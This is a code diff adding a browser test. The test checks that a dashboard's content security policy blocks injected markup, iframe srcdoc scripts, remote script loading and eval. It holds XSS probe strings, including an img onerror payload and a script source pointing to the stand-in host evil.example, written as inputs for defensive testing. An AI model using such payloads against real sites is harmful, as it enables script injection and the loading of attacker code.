@@ -170,6 +170,36 @@ it('leaves nothing to complain about in the console', () => {
   expect(person.complaints).toEqual([])
 })
 
+it('a script that was slipped in can make neither markup nor scripts from text, nor load one from elsewhere', async () => {
+  const { page } = person
+  await page.goto(`${person.server.url}/dashboard`)
+  await page.getByRole('heading', { level: 1 }).waitFor()
+  const attempt = (name: string) =>
+    page.evaluate((which) => {
+      const attempts: Record<string, () => unknown> = {
+        markup: () => {
+          document.body.innerHTML = '<img src=x onerror=alert(1)>'
+        },
+        frame: () => {
+          document.createElement('iframe').srcdoc = '<script>alert(1)</script>'
+        },
+        script: () => {
+          document.createElement('script').src = 'https://evil.example/x.js'
+        },
+        evaluation: () => new Function('return 1')(),
+      }
+      try {
+        attempts[which]?.()
+        return 'done'
+      } catch (error) {
+        return error instanceof Error ? error.name : String(error)
+      }
+    }, name)
+  for (const name of ['markup', 'frame', 'script'])
+    expect([name, await attempt(name)]).toEqual([name, 'TypeError'])
+  expect(await attempt('evaluation')).toBe('EvalError')
+})
+
 /** Loaded, and half a second without a request. */
 async function settled(page: Page) {
   await page.waitForLoadState('load')
